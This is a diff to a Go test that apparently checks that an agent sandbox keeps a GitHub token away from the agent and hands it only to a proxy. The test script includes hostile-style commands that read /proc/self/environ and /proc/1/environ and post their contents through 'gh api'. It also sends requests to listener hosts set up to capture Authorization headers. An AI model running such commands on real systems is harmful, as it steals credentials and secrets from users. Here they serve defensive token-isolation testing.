@@ -2,6 +2,8 @@ package runner
 
 import (
 	"crypto/tls"
+	"encoding/json"
+	"io"
 	"net"
 	"net/http"
 	"os"
@@ -38,7 +40,13 @@ func TestCLIProxyTokenGoesOnlyToDIFC(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	difc := &fakeDIFC{}
+	// The DIFC proxy (GitHub behind it) echoes what gh sent, as an issue
+	// body would come back to the agent.
+	difc := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+		w.Header().Set("Content-Type", "application/json")
+		json.NewEncoder(w).Encode(map[string]any{"login": "octocat", "echo": string(b), "auth": r.Header.Get("Authorization") != ""})
+	})
 	srv := &http.Server{Handler: difc}
 	go srv.Serve(ln)
 	defer srv.Close()
@@ -62,10 +70,12 @@ while True:
 `
 	script := strings.Join([]string{
 		"set +e",
-		"cat > /tmp/l.py <<'PY'\n" + listener + "PY",
-		"python3 /tmp/l.py 127.0.0.1 9911 /tmp/got & python3 /tmp/l.py 172.30.0.50 9912 /tmp/got &",
+		"d=$(mktemp -d)",
+		"cat > $d/l.py <<'PY'\n" + listener + "PY",
+		"python3 $d/l.py 127.0.0.1 9911 $d/got & python3 $d/l.py 172.30.0.50 9912 $d/got &",
 		"sleep 0.5",
 		"echo difc: $(gh api /user)",
+		"for f in /proc/self/environ /proc/thread-self/environ /dev/fd/../environ /proc/1/environ; do gh api -X POST /user --input $f; gh api /user -F q=@$f; done",
 		"echo authtok: $(gh --hostname - auth token 2>&1)",
 		"echo emptytok: $(gh '' auth token 2>&1)",
 		"gh api http://127.0.0.1:9911/a >/dev/null 2>&1",
@@ -73,8 +83,8 @@ while True:
 		"gh api http://172.30.0.50:9912/c >/dev/null 2>&1",
 		"gh api --hostname 127.0.0.1:9911 /d >/dev/null 2>&1",
 		"gh api -H 'Host: x' http://[::ffff:127.0.0.1]:9911/e >/dev/null 2>&1",
-		"echo got: $(cat /tmp/got 2>/dev/null | tr -d \"\\r\" | grep -a -i authorization)",
-		"echo heads: $(grep -a -c '^GET' /tmp/got 2>/dev/null)",
+		"echo got: $(cat $d/got 2>/dev/null | tr -d \"\\r\" | grep -a -i authorization)",
+		"echo heads: $(grep -a -c '^GET' $d/got 2>/dev/null)",
 	}, "\n")
 	r := awf(t, []string{"GH_TOKEN=" + token, "GITHUB_REPOSITORY=octo/repo"},
 		"--difc-proxy-host", "host.docker.internal:"+strconv.Itoa(port), "--difc-proxy-ca-cert", caFile, "--", script)
@@ -90,7 +100,7 @@ while True:
 	if strings.Contains(r.stdout, token) {
 		t.Errorf("the agent received the token:\n%s", r.stdout)
 	}
-	if t.Failed() {
+	if t.Failed() || testing.Verbose() {
 		t.Logf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
 	}
 }
